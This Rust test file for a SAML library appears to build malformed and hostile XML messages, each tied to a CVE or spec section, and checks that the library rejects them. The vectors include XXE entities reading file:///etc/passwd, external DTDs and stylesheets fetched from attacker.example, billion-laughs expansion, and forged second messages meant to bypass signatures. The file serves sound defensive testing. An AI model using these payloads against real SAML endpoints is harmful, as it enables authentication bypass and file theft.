//! Parsers that read one message in two ways, or do more than read it: what stands around a live signed assertion is
//! not the
//! XML that the library takes, so that nobody has to guess what another parser made of it.

use saml_sp::testing::TestIdpError;
use saml_sp::testing::forge::Tree;

use crate::stage::{ALL, ASSERTION_SIGNED, RESPONSE_UNSIGNED, Shape, Stage};
use crate::vector::{Made, Outcome, vectors};

const DOCTYPE: Outcome = Outcome::Reject("xml-doctype");
const BROKEN: Outcome = Outcome::Reject("xml-not-well-formed");
const NOT_UTF8: Outcome = Outcome::Reject("xml-not-utf8");
const INSTRUCTION: Outcome = Outcome::Reject("xml-processing-instruction");
/// Without effect where nothing signs the wrapper; else the Response is not what was signed.
const NO_EFFECT: Outcome = Outcome::Depends(|shape: Shape| shape.response_is_signed().then_some("digest-mismatch"));

type Recipe = Result<Made, TestIdpError>;

/// The genuine message behind these characters.
fn behind(stage: &Stage, prolog: &str) -> Recipe {
    Ok((prolog.to_owned() + &stage.genuine()?.to_xml()).into())
}

/// The genuine message before these bytes.
fn before(stage: &Stage, epilog: &[u8]) -> Recipe {
    Ok([stage.genuine()?.to_xml().as_bytes(), epilog].concat().into())
}

/// A genuine message, and the ID of its assertion.
fn with_known_id(stage: &Stage) -> Result<(String, String), TestIdpError> {
    let answer = stage.answer();
    Ok((stage.idp.sign(&answer)?, answer.assertion_id))
}

/// The genuine message with these bytes in an Extensions element of the Response.
fn in_wrapper(stage: &Stage, inside: impl AsRef<[u8]>) -> Recipe {
    let mut tree = stage.genuine()?;
    let extensions = tree.raw("<samlp:Extensions>@</samlp:Extensions>");
    tree.insert_before(tree.find("Status")?, extensions)?;
    let xml = tree.to_xml();
    let (start, end) = xml.split_once('@').unwrap();
    Ok([start.as_bytes(), inside.as_ref(), end.as_bytes()].concat().into())
}

/// The genuine message with this in the start tag of the Response.
fn in_start_tag(stage: &Stage, inside: &str) -> Recipe {
    let xml = stage.genuine()?.to_xml();
    Ok(xml.replacen("<samlp:Response ", &format!("<samlp:Response {inside} "), 1).into())
}

/// A forged message and the genuine one, so that a parser that ends its DOCTYPE early reads the forged one, and one
/// that
/// ends it late the genuine one.
fn two_readings(stage: &Stage, opens: &str, closes: &str) -> Recipe {
    let forged = stage.forged_response()?.to_xml().replace('"', if opens.contains('"') { "'" } else { "\"" });
    Ok(format!("<!DOCTYPE r {opens}{forged}{closes}{}<!-- -->", stage.genuine()?.to_xml()).into())
}

/// The genuine message in UTF-16.
fn utf_16(stage: &Stage, prolog: &str, octets: fn(u16) -> [u8; 2]) -> Recipe {
    let xml = prolog.to_owned() + &stage.genuine()?.to_xml();
    Ok(xml.encode_utf16().flat_map(octets).collect::<Vec<u8>>().into())
}

/// A byte of ASCII in EBCDIC, code page 037.
fn ebcdic(byte: u8) -> u8 {
    const MARKS: &[(u8, u8)] = &[
        (b' ', 0x40),
        (b'.', 0x4b),
        (b'<', 0x4c),
        (b'(', 0x4d),
        (b'+', 0x4e),
        (b'&', 0x50),
        (b'!', 0x5a),
        (b'$', 0x5b),
        (b'*', 0x5c),
        (b')', 0x5d),
        (b';', 0x5e),
        (b'-', 0x60),
        (b'/', 0x61),
        (b',', 0x6b),
        (b'%', 0x6c),
        (b'_', 0x6d),
        (b'>', 0x6e),
        (b'?', 0x6f),
        (b':', 0x7a),
        (b'#', 0x7b),
        (b'@', 0x7c),
        (b'\'', 0x7d),
        (b'=', 0x7e),
        (b'"', 0x7f),
    ];
    match byte {
        b'a'..=b'i' => byte - b'a' + 0x81,
        b'j'..=b'r' => byte - b'j' + 0x91,
        b's'..=b'z' => byte - b's' + 0xa2,
        b'A'..=b'I' => byte - b'A' + 0xc1,
        b'J'..=b'R' => byte - b'J' + 0xd1,
        b'S'..=b'Z' => byte - b'S' + 0xe2,
        b'0'..=b'9' => byte - b'0' + 0xf0,
        _ => MARKS.iter().find(|(ascii, _)| *ascii == byte).map_or(0x6f, |(_, ebcdic)| *ebcdic),
    }
}

/// The form field of the genuine message, altered.
fn field(stage: &Stage, alter: impl FnOnce(String) -> String) -> Recipe {
    use base64::Engine as _;
    let field = base64::engine::general_purpose::STANDARD.encode(stage.genuine()?.to_xml());
    Ok(Made::field(alter(field)))
}

vectors! { "parser";
    // ---- DOCTYPE

    /// A DOCTYPE that declares nothing.
    doctype_alone: "CVE-2025-25291", ALL, DOCTYPE => |stage| behind(stage, "<!DOCTYPE samlp:Response>");

    /// An entity's value in single quotes ends the DOCTYPE for a parser that does not know quotes there: it reads the
    /// forged
    /// message, and takes the genuine one for a comment.
    doctype_entity_value_in_single_quotes: "CVE-2025-25291, CVE-2025-25292", ALL, DOCTYPE =>
        |stage| two_readings(stage, "[<!ENTITY e '\">]>", "<!-- '> ]>");

    /// The same in double quotes.
    doctype_entity_value_in_double_quotes: "CVE-2025-25291, CVE-2025-25292", ALL, DOCTYPE =>
        |stage| two_readings(stage, "[<!ENTITY e \">]>", "<!-- \"> ]>");

    /// The same in the value of a parameter entity.
    doctype_parameter_entity_value: "CVE-2025-25291, CVE-2025-25292", ALL, DOCTYPE =>
        |stage| two_readings(stage, "[<!ENTITY % e '\">]>", "<!-- '> ]>");

    /// A system literal that seems to end the DOCTYPE.
    doctype_system_literal: "CVE-2025-25291, CVE-2025-25292", ALL, DOCTYPE =>
        |stage| two_readings(stage, "SYSTEM '\">", "<!-- '>");

    /// A public literal that seems to end the DOCTYPE.
    doctype_public_literal: "CVE-2025-25291, CVE-2025-25292", ALL, DOCTYPE =>
        |stage| two_readings(stage, "PUBLIC '\">", "<!-- ' 'urn:x'>");

    /// The system literal of a notation.
    doctype_notation_literal: "CVE-2025-25291, CVE-2025-25292", ALL, DOCTYPE =>
        |stage| two_readings(stage, "[<!NOTATION n SYSTEM '\">]>", "<!-- '> ]>");

    /// The default value of a declared attribute.
    doctype_default_value_literal: "CVE-2025-25291, CVE-2025-25292", ALL, DOCTYPE =>
        |stage| two_readings(stage, "[<!ATTLIST r a CDATA '\">]>", "<!-- '> ]>");

    /// A comment in the internal subset that seems to end it.
    doctype_comment_in_the_subset: "CVE-2025-25291, CVE-2025-25292", ALL, DOCTYPE =>
        |stage| two_readings(stage, "[<!-- ]>", "<!-- --> ]>");

    /// A processing instruction in the internal subset that seems to end it.
    doctype_instruction_in_the_subset: "CVE-2025-25291, CVE-2025-25292", ALL, DOCTYPE =>
        |stage| two_readings(stage, "[<?x ]>", "<!-- ?> ]>");

    /// A quote in a comment of the subset, for parsers that count quotes before comments.
    doctype_quote_in_a_comment: "CVE-2025-25291, CVE-2025-25292", ALL, DOCTYPE =>
        |stage| behind(stage, "<!DOCTYPE r [<!-- ' --><!ENTITY e 'x'><!-- \" -->]>");

    /// The word in lower case, as HTML has it: no XML, and some parsers take it.
    doctype_in_lower_case: "CVE-2025-25291", ALL, DOCTYPE => |stage| behind(stage, "<!doctype html>");

    /// Behind a declaration, a comment and much white space: for filters that look at the beginning only.
    doctype_behind_much_else: "CVE-2025-25291", ALL, DOCTYPE => |stage| {
        let space = "\n".repeat(9000);
        behind(stage, &format!("<?xml version=\"1.0\"?>{space}<!--{space}--><!DOCTYPE r [<!ENTITY e \"x\">]>"))
    };

    /// Behind the document element, where no parser ought to take it.
    doctype_behind_the_root: "CVE-2025-25291", ALL, DOCTYPE => |stage| before(stage, b"<!DOCTYPE r [<!ENTITY e 'x'>]>");

    /// Inside the document element.
    doctype_inside_the_root: "CVE-2025-25291", ASSERTION_SIGNED, DOCTYPE => |stage| in_wrapper(stage, "<!DOCTYPE r>");

    /// An attribute list that gives a forged assertion the ID that was signed, by default.
    doctype_default_id: "CVE-2025-23369", ASSERTION_SIGNED, DOCTYPE => |stage| {
        let (genuine, id) = with_known_id(stage)?;
        Ok(format!("<!DOCTYPE r [<!ATTLIST saml:Assertion ID ID '{id}'>]>{genuine}").into())
    };

    /// The ID that was signed, spelled with an entity: whoever resolves it late finds another element.
    doctype_id_by_entity: "CVE-2025-23369", ASSERTION_SIGNED, DOCTYPE => |stage| {
        let (genuine, id) = with_known_id(stage)?;
        Ok(format!("<!DOCTYPE r [<!ENTITY id '{id}'>]><r><x ID=\"&id;\"/>{genuine}</r>").into())
    };

    /// Another attribute declared to be of type ID, which a validating parser would find first.
    doctype_id_typed_attribute: "CVE-2025-23369", ALL, DOCTYPE =>
        |stage| behind(stage, "<!DOCTYPE r [<!ATTLIST samlp:Response Destination ID #IMPLIED>]>");

    // ---- Entities

    /// A billion laughs.
    entities_that_double: "CVE-2016-10127", ALL, DOCTYPE => |stage| {
        let more: String = (1..30).map(|n| format!("<!ENTITY e{n} \"&e{};&e{};\">", n - 1, n - 1)).collect();
        let xml = stage.genuine()?.to_xml().replacen("<samlp:Status>", "<!--&e29;--><samlp:Status>", 1);
        Ok(format!("<!DOCTYPE r [<!ENTITY e0 \"ha\">{more}]>{xml}").into())
    };

    /// One long entity, used often: no nesting to count.
    entity_that_is_long_and_used_often: "CVE-2016-10127", ALL, DOCTYPE => |stage| {
        let long = "x".repeat(20_000);
        behind(stage, &format!("<!DOCTYPE r [<!ENTITY e \"{long}\"><!ENTITY f \"{}\">]>", "&e;".repeat(2000)))
    };

    /// An entity that contains itself.
    entity_in_itself: "CVE-2016-10127", ALL, DOCTYPE =>
        |stage| behind(stage, "<!DOCTYPE r [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]>");

    /// A file of this machine, into the unsigned wrapper.
    external_entity_of_a_file: "CVE-2016-10127, CVE-2016-10149", ASSERTION_SIGNED, DOCTYPE => |stage| {
        let xml = stage.genuine()?.to_xml().replacen("<samlp:Status>", "<!-- --><samlp:Status>", 1);
        Ok(format!("<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>{xml}").into())
    };

    /// A server of the attacker's.
    external_entity_of_a_server: "CVE-2016-10127, CVE-2016-10149", ALL, DOCTYPE =>
        |stage| behind(stage, "<!DOCTYPE r [<!ENTITY x PUBLIC \"-//x//EN\" \"http://attacker.example/x\">]>");

    /// A document type elsewhere, which brings its entities along.
    external_subset: "CVE-2016-10127, CVE-2016-10149", ALL, DOCTYPE =>
        |stage| behind(stage, "<!DOCTYPE r SYSTEM \"http://attacker.example/r.dtd\">");

    /// A parameter entity, which needs no use in the document.
    parameter_entity_of_a_server: "CVE-2016-10149", ALL, DOCTYPE =>
        |stage| behind(stage, "<!DOCTYPE r [<!ENTITY % x SYSTEM \"http://attacker.example/x.dtd\">%x;]>");

    /// An entity of HTML that XML does not know, without any DOCTYPE.
    entity_that_nobody_declared: "CVE-2016-10149", ASSERTION_SIGNED, BROKEN =>
        |stage| in_wrapper(stage, "<x>&nbsp;</x>");

    /// The same in an attribute.
    entity_in_an_attribute: "CVE-2016-10149", ASSERTION_SIGNED, BROKEN =>
        |stage| in_start_tag(stage, "Consent=\"&x;\"");

    /// A predefined entity in capitals, as HTML allows.
    predefined_entity_in_capitals: "CVE-2016-10149", ASSERTION_SIGNED, BROKEN =>
        |stage| in_wrapper(stage, "<x>&LT;</x>");

    // ---- Processing instructions

    /// A stylesheet that a browser or a diligent parser would fetch and run.
    stylesheet_instruction: "Associating Style Sheets with XML 1.0", ALL, INSTRUCTION =>
        |stage| behind(stage, "<?xml-stylesheet type=\"text/xsl\" href=\"http://attacker.example/x.xsl\"?>");

    /// An instruction in the wrapper, which some parsers keep, some drop, and some take for a node of text.
    instruction_in_the_wrapper: "VU#475445", ASSERTION_SIGNED, INSTRUCTION =>
        |stage| in_wrapper(stage, "<?php echo 1; ?>");

    /// An instruction behind the root that hides a second document from those who know instructions.
    instruction_hides_a_second_document: "CVE-2025-25291", ALL, INSTRUCTION => |stage| {
        let forged = stage.forged_response()?.to_xml();
        before(stage, format!("<?x ?->{forged}?>").as_bytes())
    };

    /// A second XML declaration in the middle, with another encoding.
    declaration_in_the_middle: "XML 1.0 section 2.8", ASSERTION_SIGNED, BROKEN =>
        |stage| in_wrapper(stage, "<?xml version=\"1.0\" encoding=\"UTF-7\"?>");

    /// The reserved target in capitals.
    declaration_in_capitals: "XML 1.0 section 2.6", ALL, INSTRUCTION =>
        |stage| behind(stage, "<?XML version=\"1.0\"?>");

    /// White space before the declaration makes it an instruction with a reserved name.
    declaration_behind_white_space: "XML 1.0 section 2.8", ALL, BROKEN =>
        |stage| behind(stage, "\n<?xml version=\"1.0\"?>");

    // ---- Encodings

    /// UTF-16, little end first, with its mark.
    utf_16_le_with_mark: "XML 1.0 section 4.3.3", ALL, NOT_UTF8 => |stage| utf_16(stage, "\u{feff}", u16::to_le_bytes);

    /// UTF-16, big end first, with its mark.
    utf_16_be_with_mark: "XML 1.0 section 4.3.3", ALL, NOT_UTF8 => |stage| utf_16(stage, "\u{feff}", u16::to_be_bytes);

    /// UTF-16 without a mark, which has to be guessed; every byte of it is ASCII.
    utf_16_le_without_mark: "XML 1.0 appendix F", ALL, NOT_UTF8 => |stage| utf_16(stage, "", u16::to_le_bytes);

    /// The same, big end first, with a declaration that says so.
    utf_16_be_declared: "XML 1.0 appendix F", ALL, NOT_UTF8 =>
        |stage| utf_16(stage, "<?xml version=\"1.0\" encoding=\"UTF-16BE\"?>", u16::to_be_bytes);

    /// UTF-32: as UTF-8 it begins with NUL.
    utf_32: "XML 1.0 appendix F", ALL, BROKEN => |stage| {
        let xml = stage.genuine()?.to_xml();
        Ok(xml.chars().flat_map(|c| u32::from(c).to_be_bytes()).collect::<Vec<u8>>().into())
    };

    /// UTF-8 that says it is UTF-16.
    utf_16_in_the_declaration_only: "XML 1.0 section 4.3.3", ALL, NOT_UTF8 =>
        |stage| behind(stage, "<?xml version=\"1.0\" encoding=\"UTF-16\"?>");

    /// UTF-7, in which tags can be spelled without angle brackets.
    utf_7_hides_tags: "XML 1.0 section 4.3.3", ASSERTION_SIGNED, NOT_UTF8 => |stage| {
        let made = in_wrapper(stage, "+ADw-saml:Assertion/+AD4-")?;
        Ok([b"<?xml version=\"1.0\" encoding=\"UTF-7\"?>".as_slice(), &made.bytes()].concat().into())
    };

    /// Latin-1, in which every byte is a character.
    latin_1: "XML 1.0 section 4.3.3", ASSERTION_SIGNED, NOT_UTF8 => |stage| {
        let made = in_wrapper(stage, b"<x>\xe9</x>")?;
        Ok([b"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>".as_slice(), &made.bytes()].concat().into())
    };

    /// A byte of Latin-1 that nothing declares.
    latin_1_undeclared: "XML 1.0 section 4.3.3", ASSERTION_SIGNED, NOT_UTF8 =>
        |stage| in_wrapper(stage, b"<x>\xe9</x>");

    /// EBCDIC.
    ebcdic_throughout: "XML 1.0 appendix F", ALL, NOT_UTF8, not_live "no reader of ASCII finds a tag in it" => |stage| {
        let xml = "<?xml version=\"1.0\" encoding=\"IBM037\"?>".to_owned() + &stage.genuine()?.to_xml();
        Ok(xml.bytes().map(ebcdic).collect::<Vec<u8>>().into())
    };

    /// ASCII that says it is EBCDIC.
    ebcdic_in_the_declaration_only: "XML 1.0 section 4.3.3", ALL, NOT_UTF8 =>
        |stage| behind(stage, "<?xml version=\"1.0\" encoding=\"IBM037\"?>");

    /// An encoding that nobody knows: what does a parser fall back to?
    encoding_of_no_name: "XML 1.0 section 4.3.3", ALL, NOT_UTF8 =>
        |stage| behind(stage, "<?xml version=\"1.0\" encoding=\"x-user-defined\"?>");

    /// `<` in two bytes, which a lax decoder takes for a tag behind every filter.
    overlong_utf_8: "RFC 3629 section 10", ASSERTION_SIGNED, NOT_UTF8 =>
        |stage| in_wrapper(stage, b"\xc0\xbcsaml:Assertion/\xc0\xbe");

    /// A surrogate in UTF-8, half a character.
    surrogate_in_utf_8: "RFC 3629 section 3", ASSERTION_SIGNED, NOT_UTF8 =>
        |stage| in_wrapper(stage, b"<x>\xed\xa0\x80</x>");

    /// A character cut off at the end of the message.
    utf_8_cut_off: "RFC 3629 section 3", ALL, NOT_UTF8 => |stage| before(stage, b"\xe2\x82");

    /// A code point beyond Unicode.
    utf_8_beyond_unicode: "RFC 3629 section 3", ASSERTION_SIGNED, NOT_UTF8 =>
        |stage| in_wrapper(stage, b"<x>\xf4\x90\x80\x80</x>");

    /// Two byte order marks: the second one is a character before the root.
    second_byte_order_mark: "XML 1.0 section 4.3.3", ALL, BROKEN => |stage| behind(stage, "\u{feff}\u{feff}");

    /// XML 1.1, where control characters and other line ends count.
    xml_1_1: "XML 1.0 section 2.8", ALL, BROKEN => |stage| behind(stage, "<?xml version=\"1.1\"?>");

    /// A version that does not exist.
    xml_2_0: "XML 1.0 section 2.8", ALL, BROKEN => |stage| behind(stage, "<?xml version=\"2.0\"?>");

    /// A declaration of encoding before that of the version.
    declaration_out_of_order: "XML 1.0 section 2.8", ALL, BROKEN =>
        |stage| behind(stage, "<?xml encoding=\"UTF-8\" version=\"1.0\"?>");

    /// A declaration with a value that it does not know.
    declaration_of_an_unknown_value: "XML 1.0 section 2.9", ALL, BROKEN =>
        |stage| behind(stage, "<?xml version=\"1.0\" standalone=\"maybe\"?>");

    /// A declaration with more than belongs there.
    declaration_with_more_behind: "XML 1.0 section 2.8", ALL, BROKEN =>
        |stage| behind(stage, "<?xml version=\"1.0\" encoding=\"UTF-8\" encoding=\"UTF-7\"?>");

    // ---- Characters

    /// NUL behind the root: software in C stops there.
    nul_behind_the_root: "XML 1.0 section 2.2", ALL, BROKEN => |stage| before(stage, b"\0<x/>");

    /// NUL in the wrapper.
    nul_in_the_wrapper: "XML 1.0 section 2.2", ASSERTION_SIGNED, BROKEN => |stage| in_wrapper(stage, b"<x>a\0b</x>");

    /// NUL by reference.
    nul_by_reference: "XML 1.0 section 4.1", ASSERTION_SIGNED, BROKEN => |stage| in_wrapper(stage, "<x>&#0;</x>");

    /// A control character by reference.
    control_character_by_reference: "XML 1.0 section 4.1", ASSERTION_SIGNED, BROKEN =>
        |stage| in_wrapper(stage, "<x>&#xB;</x>");

    /// A surrogate by reference.
    surrogate_by_reference: "XML 1.0 section 4.1", ASSERTION_SIGNED, BROKEN =>
        |stage| in_wrapper(stage, "<x>&#xD800;</x>");

    /// U+FFFE, which is no character.
    noncharacter_by_reference: "XML 1.0 section 4.1", ASSERTION_SIGNED, BROKEN =>
        |stage| in_wrapper(stage, "<x>&#xFFFE;</x>");

    /// A number that is `A` in 32 bits.
    reference_that_overflows: "XML 1.0 section 4.1", ASSERTION_SIGNED, BROKEN =>
        |stage| in_wrapper(stage, "<x>&#4294967361;</x>");

    /// A sign in a number, which `parse` of many languages takes.
    reference_with_a_sign: "XML 1.0 section 4.1", ASSERTION_SIGNED, BROKEN =>
        |stage| in_wrapper(stage, "<x>&#+65;</x>");

    /// A reference without its end.
    reference_without_an_end: "XML 1.0 section 4.1", ASSERTION_SIGNED, BROKEN =>
        |stage| in_wrapper(stage, "<x>&#65</x>");

    /// An ampersand by itself.
    ampersand_alone: "XML 1.0 section 2.4", ASSERTION_SIGNED, BROKEN => |stage| in_wrapper(stage, "<x>a & b</x>");

    /// `]]>` in text: some take it for the end of a CDATA section that began elsewhere.
    cdata_end_in_text: "XML 1.0 section 2.4", ASSERTION_SIGNED, BROKEN => |stage| in_wrapper(stage, "<x>]]></x>");

    /// `--` in a comment: some end it there.
    double_hyphen_in_a_comment: "XML 1.0 section 2.5", ASSERTION_SIGNED, BROKEN =>
        |stage| in_wrapper(stage, "<!-- -- ><saml:x/><!-- -->");

    /// A comment without an end: everything behind it is part of it, or nothing is.
    comment_without_an_end: "XML 1.0 section 2.5", ALL, BROKEN => |stage| before(stage, b"<!-- ");

    /// A CDATA section without an end.
    cdata_without_an_end: "XML 1.0 section 2.7", ASSERTION_SIGNED, BROKEN => |stage| {
        let made = in_wrapper(stage, "<x/>")?;
        let xml = String::from_utf8(made.bytes()).unwrap();
        Ok(xml.replace("</samlp:Response>", "<![CDATA[</samlp:Response>").into())
    };

    /// An element declaration outside a document type.
    markup_declaration_in_the_wrapper: "XML 1.0 section 2.8", ASSERTION_SIGNED, BROKEN =>
        |stage| in_wrapper(stage, "<!ELEMENT x ANY>");

    /// A name that begins with a digit.
    name_that_begins_with_a_digit: "XML 1.0 section 2.3", ASSERTION_SIGNED, BROKEN =>
        |stage| in_wrapper(stage, "<1x/>");

    /// White space before a name: some read a tag, some text.
    space_before_a_name: "XML 1.0 section 3.1", ASSERTION_SIGNED, BROKEN => |stage| in_wrapper(stage, "< x/>");

    /// A slash in the middle of a tag.
    slash_in_a_tag: "XML 1.0 section 3.1", ASSERTION_SIGNED, BROKEN => |stage| in_wrapper(stage, "<x/y=\"\"/>");

    /// A comment that ends in three hyphens.
    comment_with_three_hyphens: "XML 1.0 section 2.5", ALL, BROKEN => |stage| before(stage, b"<!-- --->");

    /// A conditional section, which belongs into a document type.
    conditional_section: "XML 1.0 section 3.4", ASSERTION_SIGNED, BROKEN =>
        |stage| in_wrapper(stage, "<![IGNORE[ <x/> ]]>");

    // ---- One root

    /// Text before the root.
    text_before_the_root: "XML 1.0 section 2.1", ALL, BROKEN => |stage| behind(stage, "HTTP/1.1 200 OK\r\n\r\n");

    /// Text behind the root.
    text_behind_the_root: "XML 1.0 section 2.1", ALL, BROKEN => |stage| before(stage, b" .");

    /// A forged message behind the genuine one.
    second_root_behind: "XML 1.0 section 2.1", ALL, BROKEN =>
        |stage| before(stage, stage.forged_response()?.to_xml().as_bytes());

    /// A forged message before the genuine one.
    second_root_before: "XML 1.0 section 2.1", ALL, BROKEN => |stage| behind(stage, &stage.forged_response()?.to_xml());

    /// An end tag too many, and a forged message behind it.
    end_tag_too_many: "XML 1.0 section 2.1", ALL, BROKEN => |stage| before(stage, b"</samlp:Response>");

    /// A message that ends before its root does.
    root_without_an_end: "XML 1.0 section 2.1", ASSERTION_SIGNED, BROKEN => |stage| {
        let xml = stage.genuine()?.to_xml();
        Ok(xml.strip_suffix("</samlp:Response>").unwrap().to_owned().into())
    };

    /// A message cut off in the middle of the signed element.
    message_cut_off: "XML 1.0 section 2.1", ALL, BROKEN, not_live "the signed element has no end" => |stage| {
        let xml = stage.genuine()?.to_xml();
        Ok(xml[..xml.len() / 2].to_owned().into())
    };

    /// A message of another type around a signed assertion.
    message_of_another_type: "GHSA-63ch-w8pw-4mf2", ASSERTION_SIGNED, Outcome::Reject("message-unexpected") => |stage| {
        let mut tree = stage.genuine()?;
        tree.rename(tree.root(), "samlp:LogoutResponse")?;
        Ok(tree.into())
    };

    /// A CDATA section outside the root.
    cdata_behind_the_root: "XML 1.0 section 2.7", ALL, BROKEN => |stage| before(stage, b"<![CDATA[ ]]>");

    /// White space by reference outside the root.
    reference_behind_the_root: "XML 1.0 section 4.1", ALL, BROKEN => |stage| before(stage, b"&#32;");

    /// Tags that overlap.
    tags_that_overlap: "XML 1.0 section 3", ASSERTION_SIGNED, BROKEN => |stage| in_wrapper(stage, "<a><b></a></b>");

    /// An end tag with an attribute, whatever that may be.
    end_tag_with_an_attribute: "XML 1.0 section 3.1", ASSERTION_SIGNED, BROKEN =>
        |stage| in_wrapper(stage, "<a></a b=\"\">");

    // ---- Attributes

    /// A second ID attribute, that of the forged message.
    attribute_twice: "XML 1.0 section 3.1", ASSERTION_SIGNED, Outcome::Reject("xml-duplicate-attribute") =>
        |stage| in_start_tag(stage, "ID=\"_other\"");

    /// One attribute by two prefixes of one namespace.
    attribute_twice_by_two_prefixes: "Namespaces in XML 1.0 section 6.3", ASSERTION_SIGNED,
        Outcome::Reject("xml-duplicate-attribute") =>
        |stage| in_wrapper(stage, "<x xmlns:a=\"urn:x\" xmlns:b=\"urn:x\" a:y=\"1\" b:y=\"2\"/>");

    /// A prefix declared twice on one element.
    prefix_declared_twice: "XML 1.0 section 3.1", ASSERTION_SIGNED, Outcome::Reject("xml-duplicate-attribute") =>
        |stage| in_wrapper(stage, "<a:x xmlns:a=\"urn:x\" xmlns:a=\"urn:y\"/>");

    /// `<` in an attribute: a lax parser sees a tag begin.
    less_than_in_an_attribute: "XML 1.0 section 3.1", ASSERTION_SIGNED, BROKEN =>
        |stage| in_wrapper(stage, "<x y=\"<z>\"/>");

    /// An attribute without quotes, as HTML has them.
    attribute_without_quotes: "XML 1.0 section 3.1", ASSERTION_SIGNED, BROKEN =>
        |stage| in_wrapper(stage, "<x y=z></x>");

    /// An attribute without a value.
    attribute_without_a_value: "XML 1.0 section 3.1", ASSERTION_SIGNED, BROKEN =>
        |stage| in_wrapper(stage, "<x y></x>");

    /// Two attributes without white space between them.
    attributes_without_space_between: "XML 1.0 section 3.1", ASSERTION_SIGNED, BROKEN =>
        |stage| in_wrapper(stage, "<x y=\"\"z=\"\"/>");

    /// The signed ID behind white space: validation would strip it and find two.
    id_that_differs_by_white_space: "XML 1.0 section 3.3.3", RESPONSE_UNSIGNED, Outcome::Alice => |stage| {
        let (genuine, id) = with_known_id(stage)?;
        let mut tree = Tree::parse(&genuine)?;
        tree.set(tree.root(), "ID", &format!(" {id} "))?;
        Ok(tree.into())
    };

    /// A line end in the Destination, which a parser has to make a space; a URL with a space is another.
    destination_with_a_line_end: "XML 1.0 section 3.3.3", RESPONSE_UNSIGNED,
        Outcome::Reject("destination-mismatch") => |stage| {
        let xml = stage.genuine()?.to_xml();
        Ok(xml.replacen("/saml/acs\"", "/saml/\nacs\"", 1).into())
    };

    /// The InResponseTo with a line end by reference, which validation would strip: it is the same NCName.
    in_response_to_with_a_line_end: "XML 1.0 section 3.3.3", RESPONSE_UNSIGNED, Outcome::Alice => |stage| {
        let xml = stage.genuine()?.to_xml();
        Ok(xml.replacen("InResponseTo=\"_request\"", "InResponseTo=\"_request&#10;\"", 1).into())
    };

    // ---- Namespaces

    /// An element with a prefix that nothing declares: Go's parser took it as it stood, and wrote it otherwise.
    prefix_undeclared_on_an_element: "Nurminen 2020, XML round trips of Go", ASSERTION_SIGNED,
        Outcome::Reject("xml-undeclared-prefix") => |stage| in_wrapper(stage, "<evil:Assertion/>");

    /// An attribute with a prefix that nothing declares.
    prefix_undeclared_on_an_attribute: "Nurminen 2020, XML round trips of Go", ASSERTION_SIGNED,
        Outcome::Reject("xml-undeclared-prefix") => |stage| in_wrapper(stage, "<x evil:y=\"\"/>");

    /// A name with an empty prefix, which Go's parser lost on the way out.
    prefix_empty: "Nurminen 2020, XML round trips of Go", ASSERTION_SIGNED, BROKEN =>
        |stage| in_wrapper(stage, "<:x :y=\"\"/>");

    /// A name with two colons.
    prefix_twice: "Nurminen 2020, XML round trips of Go", ASSERTION_SIGNED, BROKEN =>
        |stage| in_wrapper(stage, "<a:b:c xmlns:a=\"urn:x\"/>");

    /// The prefix `xml` given another meaning.
    prefix_xml_rebound: "Namespaces in XML 1.0 section 3", ALL, BROKEN =>
        |stage| in_start_tag(stage, "xmlns:xml=\"urn:x\"");

    /// Another prefix with the meaning of `xml`.
    prefix_with_the_meaning_of_xml: "Namespaces in XML 1.0 section 3", ALL, BROKEN =>
        |stage| in_start_tag(stage, "xmlns:x=\"http://www.w3.org/XML/1998/namespace\"");

    /// The prefix `xmlns` declared.
    prefix_xmlns_declared: "Namespaces in XML 1.0 section 3", ALL, BROKEN =>
        |stage| in_start_tag(stage, "xmlns:xmlns=\"urn:x\"");

    /// The namespace of declarations as the default.
    namespace_of_declarations: "Namespaces in XML 1.0 section 3", ALL, BROKEN =>
        |stage| in_start_tag(stage, "xmlns=\"http://www.w3.org/2000/xmlns/\"");

    /// A prefix undeclared, which only XML 1.1 can.
    prefix_undeclared_by_the_empty_name: "Namespaces in XML 1.0 section 2.2", ALL, BROKEN =>
        |stage| in_start_tag(stage, "xmlns:x=\"\"");

    /// A relative namespace name, on which a C library returned an empty canonical form.
    namespace_relative: "CVE-2025-66475", ALL, Outcome::Reject("xml-relative-namespace") =>
        |stage| in_start_tag(stage, "xmlns:x=\"relative\"");

    /// A relative name that begins like an authority.
    namespace_relative_to_a_scheme: "CVE-2025-66475", ALL, Outcome::Reject("xml-relative-namespace") =>
        |stage| in_start_tag(stage, "xmlns:x=\"//host/x\"");

    /// A name that is no URI at all: with it, other canonicalizers fail.
    namespace_that_is_no_uri: "CVE-2025-66568", ALL, Outcome::Reject("xml-relative-namespace") =>
        |stage| in_start_tag(stage, "xmlns:x=\"urn:a b\"");

    // ---- What other software would act on

    /// `xml:id` with the signed ID on another element.
    xml_id_with_the_signed_id: "xml:id 1.0; Somorovsky et al. 2012", ASSERTION_SIGNED,
        Outcome::RejectBy(|shape| match shape {
        Shape::EncryptedAssertionSigned => "decrypt-content",
        Shape::EncryptedBothSigned => "digest-mismatch",
        _ => "xml-duplicate-id",
    }) => |stage| {
        let (genuine, id) = with_known_id(stage)?;
        Ok(genuine.replacen("<samlp:Response ", &format!("<samlp:Response xml:id=\"{id}\" "), 1).into())
    };

    /// `xml:base`, against which a URI would be resolved.
    xml_base_on_the_response: "XML Base", ASSERTION_SIGNED, NO_EFFECT =>
        |stage| in_start_tag(stage, "xml:base=\"http://attacker.example/\"");

    /// `xml:space` and `xml:lang`, which inclusive canonicalization would carry into what is signed.
    xml_space_and_lang_on_the_response: "XML 1.0 sections 2.10 and 2.12", ASSERTION_SIGNED, NO_EFFECT =>
        |stage| in_start_tag(stage, "xml:space=\"preserve\" xml:lang=\"tlh\"");

    /// A schema to fetch and to be believed, with types and defaults.
    schema_location: "XML Schema part 1 section 2.6.3", ASSERTION_SIGNED, NO_EFFECT => |stage| in_start_tag(stage,
        "xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" \
         xsi:schemaLocation=\"urn:oasis:names:tc:SAML:2.0:protocol http://attacker.example/x.xsd\"");

    /// The Response declared to be of another type, and to be nil.
    type_and_nil_on_the_response: "XML Schema part 1 section 2.6", ASSERTION_SIGNED, NO_EFFECT =>
        |stage| in_start_tag(stage,
        "xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:type=\"samlp:LogoutResponseType\" xsi:nil=\"true\"");

    /// XInclude of a file, in the wrapper.
